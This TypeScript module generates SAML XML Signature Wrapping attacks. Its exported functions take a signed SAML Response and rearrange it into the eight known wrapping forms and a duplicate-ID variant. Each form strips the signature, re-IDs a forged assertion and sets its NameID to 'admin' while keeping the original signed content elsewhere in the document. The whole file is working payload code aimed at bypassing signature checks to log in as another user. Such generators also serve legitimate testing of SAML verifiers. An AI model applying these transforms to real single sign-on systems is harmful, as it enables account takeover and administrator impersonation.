/** The parts of a signed answer, for putting them together in other ways. */
interface Parts {
  readonly head: string
  readonly assertion: string
  readonly signature: string
}

const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s
const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s

function cut(xml: string): Parts {
  const assertion = ASSERTION.exec(xml)?.[0] ?? ''
  return { head: xml.replace(ASSERTION, ''), assertion, signature: SIGNATURE.exec(xml)?.[0] ?? '' }
}

const without = (xml: string): string => xml.replace(SIGNATURE, '')

/** The same thing by another name and for another user. */
const evil = (xml: string): string =>
  without(xml)
    .replace(/ ID="[^"]+"/, ' ID="_evil"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, '$1admin')

const putBefore = (xml: string, end: string, content: string): string =>
  xml.replace(new RegExp(`${end}(?!.*${end})`, 's'), () => content + end)

/** Wrapping of a signed Response: the first two of the eight known forms. */
export const responseWrappings: Readonly<Record<string, (xml: string) => string>> = {
  'XSW1, the signed message in the signature of another': xml => {
    const signature = (SIGNATURE.exec(xml)?.[0] ?? '').replace(
      '</ds:Signature>',
      () => `<ds:Object>${without(xml)}</ds:Object></ds:Signature>`,
    )
    return evil(xml).replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`)
  },
  'XSW2, the signed message beside the signature': xml => {
    const signature = SIGNATURE.exec(xml)?.[0] ?? ''
    return evil(xml).replace('</saml:Issuer>', () => `</saml:Issuer>${without(xml)}${signature}`)
  },
}

/** Wrapping of a signed Assertion: the other six. */
export const assertionWrappings: Readonly<Record<string, (xml: string) => string>> = {
  'XSW3, another assertion before the signed one': xml => {
    const { head, assertion } = cut(xml)
    return putBefore(head, '</samlp:Response>', evil(assertion) + assertion)
  },
  'XSW3b, another assertion after the signed one': xml => {
    const { head, assertion } = cut(xml)
    return putBefore(head, '</samlp:Response>', assertion + evil(assertion))
  },
  'XSW4, the signed assertion in another': xml => {
    const { head, assertion } = cut(xml)
    return putBefore(head, '</samlp:Response>', putBefore(evil(assertion), '</saml:Assertion>', assertion))
  },
  'XSW5, the signature in another assertion': xml => {
    const { head, assertion, signature } = cut(xml)
    const other = evil(assertion).replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`)
    return putBefore(head, '</samlp:Response>', other + without(assertion))
  },
  'XSW6, the signed assertion in the signature of another': xml => {
    const { head, assertion, signature } = cut(xml)
    const around = putBefore(signature, '</ds:Signature>', without(assertion))
    const other = evil(assertion).replace('</saml:Issuer>', () => `</saml:Issuer>${around}`)
    return putBefore(head, '</samlp:Response>', other)
  },
  'XSW7, another assertion in Extensions': xml => {
    const { assertion } = cut(xml)
    const extensions = `<samlp:Extensions>${evil(assertion)}</samlp:Extensions>`
    return xml.replace('<samlp:Status>', () => `${extensions}<samlp:Status>`)
  },
  'XSW8, the signed assertion in an Object': xml => {
    const { head, assertion, signature } = cut(xml)
    const object = `<ds:Object>${without(assertion)}</ds:Object>`
    const other = evil(assertion).replace(
      '</saml:Issuer>',
      () => `</saml:Issuer>${putBefore(signature, '</ds:Signature>', object)}`,
    )
    return putBefore(head, '</samlp:Response>', other)
  },
}

/** The same ID on another assertion: which one the signature is over is then a matter of taste. */
export function sameId(xml: string): string {
  const { head, assertion, signature } = cut(xml)
  const id = / ID="([^"]+)"/.exec(assertion)?.[1] ?? ''
  const other = evil(assertion)
    .replace('"_evil"', `"${id}"`)
    .replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`)
  const inside = `<samlp:Extensions>${without(assertion).replaceAll('saml:Assertion', 'saml:Advice')}</samlp:Extensions>`
  return putBefore(head, '</samlp:Response>', other).replace(
    '<samlp:Status>',
    () => `${inside}<samlp:Status>`,
  )
}
